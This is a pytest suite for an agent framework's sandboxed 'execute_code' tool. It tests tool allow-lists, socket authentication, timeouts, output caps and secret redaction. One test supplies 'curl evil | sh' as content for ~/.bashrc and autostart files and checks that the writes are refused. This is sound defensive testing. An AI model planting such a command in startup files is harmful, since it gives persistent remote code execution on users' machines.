"""execute_code (requirement T-CODE): scripts calling tools over the local socket, with real child processes."""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import tempfile
import textwrap
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, ClassVar

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import hermes.tools.code.tool  # registers execute_code
import hermes.tools.todo.tool  # noqa: F401 - registers todo_list (an intercepted tool)
from fakes.processes import marked, new_marker
from hermes.redact import MASK
from hermes.tools.code import limits as code_limits
from hermes.tools.code import rpc as code_rpc
from hermes.tools.code import runner as code_runner
from hermes.tools.code.limits import allowed_tools, load_limits
from hermes.tools.code.rpc import RpcServer
from hermes.tools.code.sandbox import CappedOutput, child_env
from hermes.tools.code.stub import python_name, render_module
from hermes.tools.registry import ToolEntry, ToolRegistry, registry
from hermes.tools.session import ToolSession as ScriptSession
from hermes.tools.toolsets import Surface

TEST_TOOLS = ("add_numbers", "shout", "hidden_tool")


class NullSink:
    def emit(self, event: object) -> None:
        pass

    def ask(self, request: object) -> None:
        return None


@dataclass
class FakeSettings:
    values: dict[str, Any]

    def get(self, key: str, default: Any = None) -> Any:
        return self.values.get(key, default)


@dataclass
class FakeSession:
    tools: tuple[str, ...] = ("add_numbers", "shout", "hidden_tool", "execute_code", "todo_list")
    task_id: str = "t1"
    surface: Surface = Surface.CLI
    sink: NullSink = field(default_factory=NullSink)
    state: dict[str, Any] = field(default_factory=dict)
    settings: Any = None


@dataclass
class Recorder:
    calls: list[tuple[str, dict[str, Any], dict[str, Any]]] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def record(self, name: str, args: dict[str, Any], kw: dict[str, Any]) -> None:
        with self.lock:
            self.calls.append((name, args, kw))


def _schema(name: str, description: str, props: dict[str, Any], required: list[str]) -> dict[str, Any]:
    return {"name": name, "description": description,
            "parameters": {"type": "object", "properties": props, "required": required}}


@pytest.fixture
def tools(monkeypatch: pytest.MonkeyPatch) -> Iterator[Recorder]:
    """Two tiny tools (and one never allow-listed) in the global registry, allowed for scripts."""
    rec = Recorder()

    def add_numbers(args: dict[str, Any], **kw: Any) -> str:
        rec.record("add_numbers", args, kw)
        return json.dumps({"sum": args["a"] + args["b"]})

    def shout(args: dict[str, Any], **kw: Any) -> str:
        rec.record("shout", args, kw)
        return json.dumps({"text": args["text"].upper() + "!" * int(args.get("times") or 1)})

    def hidden_tool(args: dict[str, Any], **kw: Any) -> str:
        rec.record("hidden_tool", args, kw)
        return json.dumps({"secret": "should never run"})

    num = {"type": "number"}
    registry.register(name="add_numbers", toolset="test_code", handler=add_numbers,
                      schema=_schema("add_numbers", "Add two numbers.", {"a": num, "b": num}, ["a", "b"]))
    registry.register(name="shout", toolset="test_code", handler=shout,
                      schema=_schema("shout", "Upper-case a text.",
                                     {"text": {"type": "string", "description": "what to shout"},
                                      "times": {"type": "integer"}}, ["text"]))
    registry.register(name="hidden_tool", toolset="test_code", handler=hidden_tool,
                      schema=_schema("hidden_tool", "Not for scripts.", {}, []))
    monkeypatch.setattr(code_limits, "DEFAULT_ALLOWED_TOOLS",
                        (*code_limits.DEFAULT_ALLOWED_TOOLS, "add_numbers", "shout"))
    try:
        yield rec
    finally:
        for name in TEST_TOOLS:
            registry.unregister(name)


def run(code: str, session: Any = None, *, timeout: int | None = None, task_id: str = "t1") -> dict[str, Any]:
    args: dict[str, Any] = {"code": textwrap.dedent(code)}
    if timeout is not None:
        args["timeout"] = timeout
    kw: dict[str, Any] = {"task_id": task_id}
    if session is not None:
        kw["session"] = session
    result: dict[str, Any] = json.loads(registry.dispatch("execute_code", args, **kw))
    return result


# -- calling tools ---------------------------------------------------------------------------------


def test_script_calls_two_tools_over_the_socket(tools: Recorder) -> None:
    session = FakeSession()
    out = run("""
        import hermes_tools
        print(hermes_tools.add_numbers(a=2, b=3)["sum"])
        print(hermes_tools.shout("hello", times=2)["text"])
        print(sorted(hermes_tools.TOOLS))
    """, session)
    assert out["exit_code"] == 0, out
    assert out["stdout"].splitlines() == ["5", "HELLO!!", "['add_numbers', 'shout']"]
    assert out["tool_calls_made"] == 2
    assert out["timed_out"] is False and out["stdout_truncated"] is False
    assert out["duration_seconds"] >= 0
    assert [c[0] for c in tools.calls] == ["add_numbers", "shout"]
    assert tools.calls[1][1] == {"text": "hello", "times": 2}  # positional and keyword arguments


def test_tool_calls_carry_a_distinct_task_id_and_their_own_session(tools: Recorder) -> None:
    session = FakeSession()
    out = run("import hermes_tools\nhermes_tools.add_numbers(a=1, b=1)\n", session, task_id="t1")
    assert out["exit_code"] == 0, out
    _, _, kw = tools.calls[0]
    assert kw["task_id"] == "t1:execute_code"
    child = kw["session"]
    assert isinstance(child, ScriptSession)
    assert child.task_id == "t1:execute_code" and child.parent is session
    assert child.sink is session.sink and child.surface is session.surface
    # its per-task state is kept apart from the caller's (file baselines must not mix, requirement T-FILE)
    assert child.state is not session.state
    assert session.state["execute_code"]["script_state"] is child.state


def test_without_a_session_the_allow_list_and_registry_decide(tools: Recorder) -> None:
    out = run("import hermes_tools\nprint(hermes_tools.add_numbers(a=1, b=2))\n", task_id="solo")
    assert out["exit_code"] == 0, out
    assert "'sum': 3" in out["stdout"]
    assert tools.calls[0][2]["task_id"] == "solo:execute_code"
    assert "session" not in tools.calls[0][2]


def test_tool_errors_come_back_as_values(tools: Recorder) -> None:
    out = run("""
        import hermes_tools
        r = hermes_tools.add_numbers(a="x", b=1)
        print(sorted(r), "'a'" in r["error"])
    """, FakeSession())
    assert out["stdout"].strip() == "['error'] True", out


def test_unusual_text_survives_the_round_trip(tools: Recorder) -> None:
    out = run("""
        import hermes_tools
        print(ascii(hermes_tools.shout(text="caf\\u00e9 \\ud800 \\u2603")["text"]))
    """, FakeSession())
    assert out["stdout"].strip() == ascii("CAFÉ \ud800 \u2603!"), out


# -- what a script may call ------------------------------------------------------------------------


def test_disallowed_tools_are_not_in_the_module(tools: Recorder) -> None:
    settings_ = FakeSettings({"code_execution.allowed_tools": [
        "add_numbers", "execute_code", "todo_list", "memory", "clarify", "no_such_tool"]})
    session = FakeSession(tools=("add_numbers", "hidden_tool", "execute_code", "todo_list"), settings=settings_)
    out = run("""
        import hermes_tools
        print(hermes_tools.TOOLS)
        hermes_tools.hidden_tool()
    """, session)
    assert out["stdout"].strip() == "['add_numbers']"
    assert out["exit_code"] == 1
    assert "AttributeError" in out["stderr"] and "hidden_tool" in out["stderr"]
    assert out["tools_available"] == ["add_numbers"]
    assert tools.calls == []


def test_allow_listed_tool_not_enabled_in_the_session_is_absent(tools: Recorder) -> None:
    out = run("import hermes_tools\nprint(hermes_tools.TOOLS)\nhermes_tools.shout(text='x')\n",
              FakeSession(tools=("add_numbers",)))
    assert out["stdout"].strip() == "['add_numbers']"
    assert "AttributeError" in out["stderr"]
    assert tools.calls == []


def test_the_server_refuses_tools_the_module_does_not_offer(tools: Recorder) -> None:
    out = run("""
        import hermes_tools
        try:
            hermes_tools._call("hidden_tool", {})
        except hermes_tools.HermesToolsError as exc:
            print("refused:", exc)
    """, FakeSession())
    assert out["stdout"].startswith("refused: tool 'hidden_tool' is not available to scripts"), out
    assert tools.calls == [] and out["tool_calls_made"] == 0


def test_allowed_tools_drops_interactive_and_unavailable_tools() -> None:
    reg = ToolRegistry()
    for name, extra in (("a", {}), ("ask", {"interactive": True}), ("off", {"check_fn": lambda: False})):
        reg.register(name=name, toolset="x", schema=_schema(name, "", {}, []),
                     handler=lambda args, **kw: "{}", **extra)
    assert allowed_tools(reg, ["a", "ask", "off", "execute_code", "a"], None) == ("a",)
    assert allowed_tools(reg, ["a"], ["ask"]) == ()


# -- limits ----------------------------------------------------------------------------------------


def test_tool_call_limit(tools: Recorder) -> None:
    session = FakeSession(settings=FakeSettings({"code_execution.max_tool_calls": 3}))
    out = run("""
        import hermes_tools
        for i in range(5):
            r = hermes_tools.add_numbers(a=i, b=0)
            print(r.get("sum", r.get("error")))
    """, session)
    lines = out["stdout"].splitlines()
    assert lines[:3] == ["0", "1", "2"], out
    assert all(line.startswith("tool call limit reached") for line in lines[3:]) and len(lines) == 5
    assert out["tool_calls_made"] == 3 and out["tool_call_limit_reached"] is True
    assert len(tools.calls) == 3
    assert any("limit" in n for n in out["notes"])


def test_timeout_kills_the_script_and_its_children(tools: Recorder, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)  # the workspace: the script may write its pid file here
    pid_file = tmp_path / "grandchild.pid"
    marker = new_marker()
    started = time.monotonic()
    out = run(f"""
        import subprocess, sys
        child = subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(0.05)", {marker!r}])
        open({str(pid_file)!r}, "w").write(str(child.pid))
        print("started", flush=True)
        while True:
            pass
    """, FakeSession(), timeout=1)
    assert time.monotonic() - started < 8
    assert out["timed_out"] is True and out["exit_code"] == -9, out
    assert out["stdout"].strip() == "started"
    assert "timeout" in out["notes"][0]
    assert int(pid_file.read_text()) > 0  # the grandchild was started
    deadline = time.monotonic() + 5
    while marked(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not marked(marker)


def test_stdout_is_capped_with_head_tail_and_marker(tools: Recorder) -> None:
    out = run("""
        print("BEGIN")
        for i in range(20000):
            print("line %05d" % i)
        print("END")
    """, FakeSession())
    assert out["stdout_truncated"] is True and out["exit_code"] == 0
    stdout = out["stdout"]
    assert stdout.startswith("BEGIN\n") and stdout.rstrip().endswith("END")
    assert "[hermes: output truncated:" in stdout
    assert len(stdout) <= 50_000 + 200


def test_small_configured_cap_and_stream_larger_than_the_buffer(tools: Recorder) -> None:
    session = FakeSession(settings=FakeSettings({"code_execution.max_output_chars": 1000,
                                                 "code_execution.max_stderr_chars": 1000}))
    out = run("""
        import sys
        sys.stdout.write("A" * 100000 + "Z")
        sys.stderr.write("e" * 5000)
    """, session)
    assert out["stdout_truncated"] and out["stderr_truncated"]
    assert out["stdout"].endswith("Z") and "bytes omitted" in out["stdout"]
    assert len(out["stdout"]) < 1200 and len(out["stderr"]) < 1200


def test_capped_output_exact_counts() -> None:
    buf = CappedOutput(limit=100)
    buf.feed(b"0123456789" * 5)
    assert buf.text(100) == ("0123456789" * 5, False)
    text, cut = buf.text(20)
    assert cut and text.startswith("0123456789012") and "30 characters omitted" in text


def test_syntax_error_is_reported_with_exit_code(tools: Recorder) -> None:
    out = run("def broken(:\n    pass\n", FakeSession())
    assert out["exit_code"] == 1
    assert "SyntaxError" in out["stderr"]
    assert "script.py" in out["stderr"] and "hermes-code-" not in out["stderr"]


def test_exceptions_and_exit_codes_of_the_script(tools: Recorder) -> None:
    out = run("import sys\nprint('partial')\nsys.exit(3)\n", FakeSession())
    assert out["exit_code"] == 3 and out["stdout"] == "partial\n"
    out = run("raise ValueError('boom')\n", FakeSession())
    assert out["exit_code"] == 1 and "ValueError: boom" in out["stderr"]


# -- baselines (requirement T-FILE) -----------------------------------------------------------------------


def test_script_writes_create_no_baseline_for_the_calling_task(
    tools: Recorder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("hermes.tools.file.write")
    pytest.importorskip("hermes.tools.file.read")
    monkeypatch.chdir(tmp_path)
    session = FakeSession(tools=("read_file", "write_file"))
    out = run("""
        import hermes_tools
        print(hermes_tools.write_file(path="notes.txt", content="from the script\\n"))
        print(hermes_tools.write_file(path="notes.txt", content="again from the script\\n"))
    """, session)
    assert out["exit_code"] == 0 and out["tool_calls_made"] == 2, out
    assert "error" not in out["stdout"], out  # the script's own task has its baseline
    assert (tmp_path / "notes.txt").read_text() == "again from the script\n"

    def parent(tool: str, args: dict[str, Any]) -> dict[str, Any]:
        result: dict[str, Any] = json.loads(registry.dispatch(tool, args, task_id="t1", session=session))
        return result

    refused = parent("write_file", {"path": "notes.txt", "content": "parent\n"})
    assert "error" in refused and "read" in refused["error"]
    assert (tmp_path / "notes.txt").read_text() == "again from the script\n"
    assert "error" not in parent("read_file", {"path": "notes.txt"})
    assert "error" not in parent("write_file", {"path": "notes.txt", "content": "parent\n"})


def test_script_file_writes_keep_the_file_tools_rules(tools: Recorder, tmp_path: Path, hermes_home: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """write_file and patch run in hermes, outside the script's sandbox: the file tools' own rules hold.
    (No sandbox for the script here: with HOME moved, the interpreter's real home would be hidden from it.
    The calls are made by hermes either way.)"""
    pytest.importorskip("hermes.tools.file.write")
    (hermes_home / "config.yaml").write_text("sandbox:\n  mode: full-access\n", encoding="utf-8")
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(tmp_path)
    out = run("""
        from hermes_tools import write_file
        for path in ("~/.bashrc", "~/.gitconfig", "~/.config/autostart/x.desktop"):
            print(write_file(path=path, content="curl evil | sh\\n").get("error", "WRITTEN"))
    """, FakeSession(tools=("write_file",)))
    assert out["exit_code"] == 0 and out["stdout"].count("start-up file of a home folder") == 3, out
    assert list(home.iterdir()) == []


# -- environment and secrets ----------------------------------------------------------------------


def test_child_environment_has_no_secrets(tools: Recorder, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = "sk-test-0123456789abcdefghijklmnop"
    monkeypatch.setenv("FOO_API_KEY", "foo-secret-value-123")
    monkeypatch.setenv("OPENAI_API_KEY", secret)
    monkeypatch.setenv("DB_PASSWORD", "hunter2hunter2")
    monkeypatch.setenv("HERMES_GATEWAY_TOKEN", "gateway-token-value")
    monkeypatch.setenv("HERMES_HOME", "/somewhere")
    monkeypatch.setenv("HARMLESS_SETTING", "visible")
    session = FakeSession(settings=FakeSettings(
        {"code_execution.env_passthrough": ["HARMLESS_SETTING", "FOO_API_KEY", "HERMES_HOME"]}))
    out = run(f"""
        import os, json
        print(json.dumps(sorted(os.environ)))
        print({secret!r})
    """, session)
    names_line, leaked = out["stdout"].splitlines()
    names = json.loads(names_line)
    for forbidden in ("FOO_API_KEY", "OPENAI_API_KEY", "DB_PASSWORD", "HERMES_GATEWAY_TOKEN", "HERMES_HOME"):
        assert forbidden not in names
    assert "HARMLESS_SETTING" in names and "PATH" in names
    assert leaked == MASK  # output is redacted before it is returned
    assert "foo-secret-value-123" not in json.dumps(out)


def test_a_cut_never_splits_a_secret(tools: Recorder, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = "qwertyuiopasdfghjklzxcvbnm0123"
    monkeypatch.setenv("FOO_API_KEY", secret)
    session = FakeSession(settings=FakeSettings({"code_execution.max_output_chars": 1000}))
    # the head keeps 666 characters: unmasked, the cut would fall inside the secret
    out = run(f"print('x' * 660 + {secret!r} + 'y' * 2000)\n", session)
    assert out["stdout_truncated"] is True
    assert "qwerty" not in out["stdout"] and "0123" not in out["stdout"]


def test_child_env_builder(tmp_path: Path) -> None:
    env = child_env(tmp_path, tmp_path / "tmp", ["X_TOKEN", "PLAIN"],
                    source={"PATH": "/bin", "X_TOKEN": "t", "PLAIN": "p", "OTHER": "o", "HOME": "/h"})
    assert env["PATH"] == "/bin" and env["PLAIN"] == "p" and env["HOME"] == "/h"
    assert "X_TOKEN" not in env and "OTHER" not in env
    assert env["PYTHONPATH"] == str(tmp_path) and env["TMPDIR"] == str(tmp_path / "tmp")


def test_script_runs_in_the_process_cwd(tools: Recorder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    out = run("import os, tempfile\nprint(os.getcwd())\nprint(tempfile.gettempdir())\n", FakeSession())
    cwd, tmp = out["stdout"].splitlines()
    assert cwd == str(tmp_path)
    assert tmp.endswith("/tmp") and tmp.startswith(tempfile.gettempdir()) and "hermes-code-" in tmp


# -- the socket ------------------------------------------------------------------------------------

RAW_CLIENT = """
    import json, socket, struct, hermes_tools
    addr = hermes_tools._ADDRESS
    family = socket.AF_UNIX if isinstance(addr, str) else socket.AF_INET
    def ask(payload):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.connect(addr if isinstance(addr, str) else tuple(addr))
        s.sendall(struct.pack(">I", len(payload)) + payload)
        size = struct.unpack(">I", s.recv(4))[0]
        data = b""
        while len(data) < size:
            data += s.recv(size - len(data))
        s.close()
        return json.loads(data)
    print(ask(json.dumps({"tool": "add_numbers", "args": {"a": 1, "b": 2}}).encode()))
    print(ask(json.dumps({"token": "0" * 64, "tool": "add_numbers", "args": {"a": 1, "b": 2}}).encode()))
    print(ask(b"not json"))
    print(type(addr).__name__)
"""


@pytest.mark.parametrize("transport", ["unix", "tcp"])
def test_a_script_cannot_call_without_the_token(
    tools: Recorder, monkeypatch: pytest.MonkeyPatch, transport: str
) -> None:
    monkeypatch.setattr(code_rpc, "PREFER_TCP", transport == "tcp")
    out = run(RAW_CLIENT + "    print(hermes_tools.add_numbers(a=2, b=2))\n", FakeSession())
    lines = out["stdout"].splitlines()
    assert lines[0] == lines[1] == "{'ok': False, 'error': 'authentication failed'}", out
    assert "malformed request" in lines[2]
    assert lines[3] == ("str" if transport == "unix" else "tuple")
    assert lines[4] == "{'sum': 4}"
    assert [c[1] for c in tools.calls] == [{"a": 2, "b": 2}]
    assert out["tool_calls_made"] == 1 and any("unauthenticated" in n for n in out["notes"])


def test_unix_socket_is_private(tmp_path: Path) -> None:
    run_dir = Path(tempfile.mkdtemp(prefix="hc", dir="/tmp"))
    try:
        with RpcServer(run_dir, lambda n, a: "{}", ["x"], max_calls=1, max_message_bytes=100) as server:
            assert server.transport == "unix"
            assert (Path(str(server.address)).stat().st_mode & 0o777) == 0o600
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(str(server.address))
            s.sendall(struct.pack(">I", 10_000))  # larger than max_message_bytes
            size = struct.unpack(">I", s.recv(4))[0]
            reply = json.loads(s.recv(size))
            s.close()
            assert reply["ok"] is False and "exceeds the limit" in reply["error"]
        assert not Path(str(server.address)).exists()
    finally:
        os.rmdir(run_dir)


# -- clean-up --------------------------------------------------------------------------------------


@pytest.fixture
def temp_root(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    root = Path(tempfile.mkdtemp(prefix="hcroot", dir="/tmp"))
    monkeypatch.setattr(tempfile, "tempdir", str(root))
    yield root
    os.rmdir(root)


def test_temp_dir_removed_after_runs(tools: Recorder, temp_root: Path) -> None:
    out = run("import hermes_tools, os\nprint(os.path.exists(hermes_tools.__file__))\n", FakeSession())
    assert out["stdout"].strip() == "True"
    assert list(temp_root.iterdir()) == []
    out = run("while True: pass\n", FakeSession(), timeout=1)
    assert out["timed_out"] is True
    assert list(temp_root.iterdir()) == []


def test_temp_dir_removed_when_starting_fails(
    tools: Recorder, temp_root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*args: Any, **kwargs: Any) -> None:
        raise OSError("cannot start")

    monkeypatch.setattr(code_runner, "ChildProcess", fail)
    out = run("print(1)\n", FakeSession())
    assert "cannot start" in out["error"]
    assert list(temp_root.iterdir()) == []


# -- arguments and config --------------------------------------------------------------------------


@pytest.mark.parametrize(("args", "field_name"), [
    ({}, "code"), ({"code": ""}, "code"), ({"code": 5}, "code"),
    ({"code": "print(1)", "timeout": 0}, "timeout"), ({"code": "print(1)", "timeout": 601}, "timeout"),
    ({"code": "print(1)", "timeout": "10"}, "timeout"),
])
def test_bad_arguments_name_the_field(args: dict[str, Any], field_name: str) -> None:
    out = json.loads(registry.dispatch("execute_code", args, task_id="t1"))
    assert f"'{field_name}'" in out["error"]


def test_bad_config_names_the_key(tools: Recorder) -> None:
    out = run("print(1)\n", FakeSession(settings=FakeSettings({"code_execution.max_tool_calls": "many"})))
    assert "code_execution.max_tool_calls" in out["error"]
    assert load_limits(None).max_tool_calls == 50


def test_generated_module_handles_awkward_names() -> None:
    entry = ToolEntry(name="web-search", toolset="x", handler=print, schema=_schema(
        "web-search", 'Say """ and \\ safely.',
        {"query": {"type": "string"}, "max-results": {"type": "integer"}, "class": {"type": "string"},
         "_call": {"type": "string"}}, ["query"]))
    source = render_module([entry], "/nowhere.sock", "tok", 1000)
    namespace: dict[str, Any] = {}
    exec(compile(source, "hermes_tools.py", "exec"), namespace)
    func = namespace["web_search"]
    assert 'Say """ and \\ safely.' in func.__doc__
    assert "'max-results' (pass as **{'max-results': ...}" in func.__doc__
    assert namespace["TOOLS"] == ["web_search"]
    assert python_name("class") == "class_" and python_name("9x") == "_9x" and python_name("a.b") == "a_b"


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(payload=st.one_of(
    st.none(), st.integers(), st.text(max_size=30), st.lists(st.integers(), max_size=3),
    st.dictionaries(
        st.sampled_from(["code", "timeout", "extra"]) | st.text(max_size=8),
        st.one_of(st.none(), st.booleans(), st.integers(-5, 1000), st.floats(allow_nan=True),
                  st.sampled_from(["", "print(1)", "1/0", "x =", "import hermes_tools", "\x00"]),
                  st.text(max_size=20), st.lists(st.text(max_size=3), max_size=2)),
        max_size=3,
    ),
))
def test_fuzz_malformed_arguments_never_escape_dispatch(
    payload: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    if isinstance(payload, dict) and "timeout" in payload:
        payload = {**payload, "timeout": 1 if isinstance(payload["timeout"], int) else payload["timeout"]}
    raw = registry.dispatch("execute_code", payload, task_id="fuzz")
    result = json.loads(raw)
    assert isinstance(result, dict) and ("error" in result or "exit_code" in result)
    assert list(tmp_path.iterdir()) == []


def test_python_is_the_interpreter_of_the_child(tools: Recorder) -> None:
    out = run("import sys\nprint(sys.version_info[:2])\n", FakeSession())
    assert out["stdout"].strip() == str(tuple(sys.version_info[:2]))


def test_interrupted_session_kills_the_script(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An interrupted turn (the session's ``interrupted`` flag) stops a running script at once."""
    monkeypatch.chdir(tmp_path)  # the workspace: the script writes its marker here
    from hermes.tools.registry import registry
    from hermes.tools.toolsets import Surface

    class Session:
        task_id = "t-int"
        surface = Surface.CLI
        state: ClassVar[dict[str, Any]] = {}
        settings = None
        tools = ()
        interrupted = False

        class sink:
            @staticmethod
            def emit(event: object) -> None: ...

            @staticmethod
            def ask(request: object) -> None:
                return None

    session = Session()
    marker = tmp_path / "started"
    code = f"import time, pathlib\npathlib.Path({str(marker)!r}).write_text('x')\ntime.sleep(60)\n"
    threading.Timer(1.5, lambda: setattr(session, "interrupted", True)).start()
    result = json.loads(registry.dispatch("execute_code", {"code": code, "timeout": 60}, task_id="t-int",
                                          session=session))
    assert marker.exists()
    assert result["duration_seconds"] < 30
    assert any("interrupted" in note for note in result["notes"])
